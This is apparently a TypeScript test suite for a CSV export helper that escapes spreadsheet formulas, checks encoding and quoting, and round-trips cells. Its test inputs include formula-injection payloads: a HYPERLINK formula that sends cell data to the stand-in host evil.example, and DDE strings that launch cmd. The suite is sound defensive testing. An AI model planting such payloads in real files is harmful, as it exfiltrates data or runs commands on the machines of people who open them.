import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { byteOrderMark, csvFile, spreadsheetSafeCell, type CsvCell } from "~/lib/shell/csvFile";

/** The cells as a spreadsheet reads them back (papaparse stands in: the same quoting rules). */
function cellsOf(csv: string): string[][] {
  expect(csv.startsWith(byteOrderMark)).toBe(true);
  // papaparse ends a header without rows with a line break; the parse would read an empty row after it.
  // The file's delimiter is always ",": guessed, papaparse took ";" for a header of empty cells over ";" cells.
  return Papa.parse<string[]>(csv.slice(byteOrderMark.length).replace(/\r\n$/, ""), { newline: "\r\n", delimiter: "," })
    .data;
}

const startsLikeAFormula = /^[=+\-@\t\r]/;
const plainNumber = /^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$/;

describe("a cell a spreadsheet would run", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ["+cmd|' /C notepad'!A0"],
    ["-1+cmd|' /C calc'!A0"],
    ["-"],
    ["=1+1"],
    ["\t=1+1"],
    ["\r=1+1"],
    ["-5 V"],
  ])("%j gets a leading ' and otherwise stays as it was", (value) => {
    expect(spreadsheetSafeCell(value)).toBe(`'${value}`);
  });

  it.each([["-5"], ["+1.5"], ["-1,5"], ["-.5"], ["+2e3"], ["17101"], ["Alpha"], ["'=already text"], [""], ["a=b"]])(
    "%j is a plain number or plain text and stays as it is",
    (value) => {
      expect(spreadsheetSafeCell(value)).toBe(value);
    },
  );

  it("leaves numbers alone, negative ones too", () => {
    expect(spreadsheetSafeCell(-5)).toBe(-5);
    expect(spreadsheetSafeCell(0)).toBe(0);
  });
});

describe("the CSV file", () => {
  it("starts with a byte order mark, quotes every field and ends each row with CRLF", () => {
    const csv = csvFile({
      fields: ["code", "value"],
      rows: [
        ["P001", "æøå"],
        ["P002", -5],
      ],
    });
    expect(csv).toBe(`${byteOrderMark}"code","value"\r\n"P001","æøå"\r\n"P002","-5"`);
    // UTF-8 bytes, the mark first: what Excel needs to read æøå right.
    expect([...new TextEncoder().encode(csv).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it("has its header even without rows", () => {
    expect(cellsOf(csvFile({ fields: ["Time", "Label"], rows: [] }))).toEqual([["Time", "Label"]]);
  });

  it("reads back a header of empty cells over cells of ';' as written", () => {
    expect(cellsOf(csvFile({ fields: ["", ""], rows: [[";", ";"]] }))).toEqual([
      ["", ""],
      [";", ";"],
    ]);
  });

  it("neutralises formulas in the header too", () => {
    expect(cellsOf(csvFile({ fields: ["=cmd"], rows: [] }))).toEqual([["'=cmd"]]);
  });

  const cell = fc.oneof(
    fc.string(),
    fc.string({ unit: fc.constantFrom("=", "+", "-", "@", "\t", "\r", "\n", '"', ",", ";", "1", ".", "a", "'", "æ") }),
    fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
    fc.integer(),
  );

  it("reads back cell for cell, each unchanged or with one leading ', and no cell runs as a formula", () => {
    fc.assert(
      fc.property(
        fc.array(fc.string(), { minLength: 1, maxLength: 4 }),
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 5 }),
        (fields, rows) => {
          const width = fields.length;
          const table = rows.map((row) => Array.from({ length: width }, (_, index) => row[index] ?? ""));
          const read = cellsOf(csvFile({ fields, rows: table }));
          const written: CsvCell[][] = [fields, ...table];
          expect(read).toHaveLength(written.length);
          read.forEach((readRow, rowIndex) =>
            readRow.forEach((readCell, column) => {
              const original = String(written[rowIndex]![column]);
              expect([original, `'${original}`]).toContain(readCell);
              if (startsLikeAFormula.test(readCell)) expect(readCell).toMatch(plainNumber);
              // Only what starts like a formula is marked.
              if (readCell !== original) expect(original).toMatch(startsLikeAFormula);
            }),
          );
        },
      ),
    );
  });
});
